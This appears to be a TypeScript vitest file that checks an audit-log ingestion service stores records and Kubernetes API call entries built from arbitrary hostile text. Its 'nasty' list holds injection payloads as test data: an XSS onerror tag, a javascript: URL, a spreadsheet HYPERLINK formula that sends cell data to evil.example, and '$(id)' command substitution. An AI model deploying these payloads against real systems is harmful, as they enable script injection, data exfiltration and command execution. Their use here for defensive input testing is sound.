import { afterAll, beforeAll, expect, it } from "vitest";
import { type TestInstallation, testInstallation } from "@/lib/auth/server/test-installation.ts";
import { drafts, type RecordLog } from "../rows.ts";
import { lines, testSource } from "./test-source.ts";

let installation: TestInstallation;
beforeAll(async () => {
  installation = await testInstallation();
});
afterAll(() => installation.remove());

const nasty = [
  '<img src=x onerror="hurt()">',
  "javascript:hurt()",
  '=HYPERLINK("http://evil.example/?"&A1)',
  "/api/v1/namespaces/%E0%A4%A/pods/%/exec?command=%ff&command=%",
  "\u001b[31mred\u001b]8;;http://evil\u001b\\",
  "\u202e\u2066\u200b\ud83d\ude00",
  "be\u0000fore",
  "__proto__",
  "$(id)",
];

const text = "before\u0000after \\u0000 \u001b]0;\u0007 \u202e </script>' \" \\N \\. \r\n\t{\ud83d\ude00";
const fixed: { [field: string]: unknown } = {
  time: "2026-11-20T10:00:00Z",
  outcome: undefined,
  // What the catalogue says of an event; all else of it may be any text.
  eventId: "0193A4C2-8f3a-7c10-8a51-5be0a0d3c902",
  tenantId: "0193a4c2-8f3a-7c10-8a51-5be0a0d3c903",
  workflowId: "0193a4c2-8f3a-7c10-8a51-5be0a0d3c904",
  category: "Reporting",
  workflowType: "epbreport:upsert",
  eventType: "epbreport:upserted",
  targetType: "epbReport",
  customValues: { [text]: text },
};

it.each(Object.keys(drafts) as RecordLog[])("%s takes any text", async (log) => {
  const source = await testSource(installation.organizationId, "native");
  const shape = drafts[log].shape as {
    [field: string]: { safeParse: (value: unknown) => { success: boolean } };
  };
  const record: { [field: string]: unknown } = { log, id: text };
  for (const [field, schema] of Object.entries(shape)) {
    const value = [fixed[field], text, [text], 1, ...choices(field)].find(
      (one) => one !== undefined && schema.safeParse(one).success,
    );
    if (value === undefined) throw new Error(field);
    record[field] = value;
  }
  expect(await source.post(lines([record]))).toMatchObject({ accepted: 1 });
});

function choices(field: string): string[] {
  return (
    {
      outcome: ["accepted", "allowed", "success"],
      origin: ["reported"],
      stage: ["ResponseComplete"],
      accessMethod: ["kubectl CLI"],
      event: ["open"],
      kind: ["ssh", "database"],
      part: ["whole"],
      actorType: ["user"],
      initiatorType: ["tenant-user"],
      operationStatus: ["success"],
    }[field] ?? []
  );
}

it("calls of a kubectl that says nothing but nonsense are stored, and become commands or none", async () => {
  const source = await testSource(installation.organizationId, "native");
  const calls = nasty.flatMap((one, at) =>
    ["exec", "", "log", "status"].map((subresource) => ({
      log: "kubernetes-api-calls",
      id: `${at} ${subresource}`,
      time: `2026-11-20T10:00:0${at}Z`,
      user: one,
      groups: [one],
      targetUser: one,
      cluster: one,
      namespace: one,
      resource: one,
      ...(subresource !== "" && { subresource }),
      name: one,
      verb: one,
      requestUri: one,
      userAgent: `kubectl/v1.36 ${one}`,
      command: one,
      decision: one,
      reason: one,
    })),
  );
  expect(await source.post(lines(calls))).toMatchObject({ accepted: calls.length });
});
